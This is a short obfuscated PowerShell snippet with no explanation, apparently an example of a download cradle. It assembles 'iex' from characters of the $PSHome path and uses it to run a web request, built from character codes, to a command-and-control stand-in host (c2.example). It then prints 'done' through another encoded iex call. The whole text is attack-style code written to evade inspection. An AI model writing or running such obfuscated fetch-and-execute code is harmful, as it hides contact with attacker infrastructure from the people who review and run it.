.($PSHome[4]+$PSHome[30]+'x') ([char]73+[char]119+'r http://c2.example/'+[char]0x63)
$x = -join (0x77,114,105,116,101 | % { [char]$_ })
iex "$x-host done"
